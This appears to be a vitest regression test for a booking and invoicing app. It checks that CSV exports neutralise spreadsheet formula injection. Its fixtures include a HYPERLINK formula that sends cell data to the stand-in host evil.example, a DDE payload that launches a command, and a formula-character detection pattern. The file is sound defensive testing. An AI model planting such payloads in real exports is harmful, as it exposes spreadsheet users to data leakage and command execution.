// @databases pglite
import { unzipSync } from 'fflate';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCells } from '../tests/support/csv-cells';
import { testDatabaseForFile } from '../tests/support/test-database';
import { billingDetails } from './db/schema/invoices';
import { spaces } from './db/schema/spaces';
import { createActivityRoutes } from './features/activity/activity.routes';
import { accountingCsv } from './billing/accounting-export';
import { closingArchive } from './billing/closing-archive';
import { invoicesRouter, setLegalIdentity } from './features/invoices/invoices.fixtures';
import { contextFor, localInstant } from './features/reservations/reservations.fixtures';
import { ALWAYS_OPEN, addRole, insertPerson, insertSpace, type TestPerson } from './db/factories.fixtures';
import { recordActivity } from './platform/activity';
import { issueCreditNote, issueInvoice } from './billing/invoicing';
import { log } from './platform/log';
import { createRequestContexts } from './platform/request-context';
import { systemContext, unitOfWork } from './platform/service-context';

/**
 * Every CSV the app writes (the activity feed, the accountant's export, a closed month's listings), fed
 * names, business names and a space title that a spreadsheet would run as formulas (issue 27: the
 * accountant's export once wrote `=HYPERLINK(…)` as is). Each must come out as text, and the amounts as
 * numbers a spreadsheet adds up, with no `'` in front.
 */

const STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const hostileName = (start: string) => `${start}HYPERLINK("https://evil.example/?"&A1;"Cliquez")`;
const hostileBusiness = (start: string) => `${start}1+1 SARL`;
const hostileSpace = `=cmd|' /C calc'!A0`;
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(,\d+)?$/;

/** No cell a spreadsheet would run: a text starting with a formula character is not a number either. */
function expectNoFormula(rows: string[][]) {
  for (const row of rows)
    for (const cell of row) if (FORMULA_START.test(cell)) expect(cell, JSON.stringify(row)).toMatch(NUMBER);
}

/** Every hostile text is there, neutralised by a leading `'`, whole (quotes and `;` kept inside the cell). */
function expectNeutralised(rows: string[][], texts: string[]) {
  const cells = new Set(rows.flat());
  for (const text of texts) expect(cells.has(`'${text}`), JSON.stringify(text)).toBe(true);
}

let now = new Date(localInstant('2027-03-10T10:00'));
const router = invoicesRouter(() => now);
const database = testDatabaseForFile();
let manager: TestPerson;
let spaceId = '';
const members: TestPerson[] = [];
let firstInvoiceId = '';

beforeAll(async () => {
  const db = database.db;
  spaceId = await insertSpace(db, { hours: ALWAYS_OPEN });
  await db.update(spaces).set({ name: hostileSpace }).where(eq(spaces.id, spaceId));
  await setLegalIdentity(db, spaceId);
  manager = await insertPerson(db, { name: 'Julien Moreau' });
  await addRole(db, spaceId, manager.id, 'manager');
  const system = () => systemContext({ db, log, now });
  for (const start of STARTS) {
    // One buyer as a person, one as a business (the accountant's export names the business).
    const person = await insertPerson(db, { name: hostileName(start) });
    const business = await insertPerson(db, { name: `Personne ${members.length}` });
    await db.insert(billingDetails).values({ userId: business.id, businessName: hostileBusiness(start) });
    members.push(person, business);
    await recordActivity(db, {
      kind: 'reservation.created',
      actor: { type: 'user', id: person.id },
      subject: { type: 'reservation', id: `r-${members.length}` },
      spaceId,
      details: {
        roomName: hostileName(start),
        startsAt: '2027-03-11T07:00:00.000Z',
        endsAt: '2027-03-11T08:00:00.000Z',
      },
      occurredAt: now,
    });
  }
  for (const [index, buyer] of members.entries()) {
    const invoice = await unitOfWork(system(), (work) =>
      issueInvoice(
        work,
        {
          spaceId,
          buyerUserId: buyer.id,
          lines: [{ label: 'Journée', quantity: 1, unitExclVatCents: 1250, vatRateBasisPoints: 2000 }],
          serviceStart: '2027-03-10',
          serviceEnd: '2027-03-10',
        },
        'explicit',
      ),
    );
    firstInvoiceId ||= invoice!.id;
    // The business buyers' invoices are credited: credit notes are in every export too.
    if (index % 2 === 1) await unitOfWork(system(), (work) => issueCreditNote(work, invoice!, 'Erreur'));
  }
  await router.invoke(
    'invoices.recordPayment',
    { invoiceId: firstInvoiceId, amountCents: 1500, method: 'bank_transfer', paidOn: '2027-03-12' },
    contextFor(database.db, manager.session),
  );
  now = new Date(localInstant('2027-04-02T10:00'));
  await router.invoke('invoices.closeMonth', { spaceId, month: '2027-03' }, contextFor(db, manager.session));
});

describe('text that a spreadsheet would run as a formula', () => {
  it('is neutralised in the activity CSV: names, the space’s title, room names in descriptions', async () => {
    const routes = createActivityRoutes({
      contextOf: createRequestContexts({
        db: database.db,
        readSession: async () => manager.session,
        clock: () => now,
      }),
    });
    const response = await routes.request(`/export.csv?scope=spaces&space=${spaceId}`);
    expect(response.status).toBe(200);
    const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
    const rows = csvCells(text);
    // The six entries written here, and those of the invoices issued to the same members.
    expect(rows.length).toBeGreaterThan(1 + STARTS.length);
    expectNoFormula(rows);
    expectNeutralised(rows, [hostileSpace, ...STARTS.map(hostileName)]);
  });

  it('is neutralised in the accountant’s export, its amounts left as numbers', async () => {
    const rows = csvCells(await accountingCsv(database.db, spaceId, '2027-03-01', '2027-03-31'));
    expectNoFormula(rows);
    expectNeutralised(rows, [...STARTS.map(hostileName), ...STARTS.map(hostileBusiness)]);
    const entries = rows.slice(1);
    // Documents (customer, revenue, VAT) of 12 invoices and 6 credit notes, then the payment's two lines.
    expect(entries).toHaveLength(18 * 3 + 2);
    for (const entry of entries) {
      expect(entry[11]).toMatch(/^\d+,\d{2}$/);
      expect(entry[12]).toMatch(/^\d+,\d{2}$/);
    }
  });

  it('is neutralised in a closed month’s listings, their amounts left as numbers', async () => {
    const archive = (await closingArchive(database.db, spaceId, '2027-03'))!;
    const files = unzipSync(archive.bytes);
    const decode = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8');
    const documents = csvCells(decode(files['documents.csv']!));
    expectNoFormula(documents);
    expectNeutralised(documents, STARTS.map(hostileName));
    expect(documents.slice(1)).toHaveLength(18);
    for (const row of documents.slice(1)) expect(row.slice(5, 8)).toEqual(['12,50', '2,50', '15,00']);
    const payments = csvCells(decode(files['paiements.csv']!));
    expectNoFormula(payments);
    expect(payments[1]!.slice(0, 4)).toEqual(['F-2027-000001', '2027-03-12', 'virement', '15,00']);
  });
});
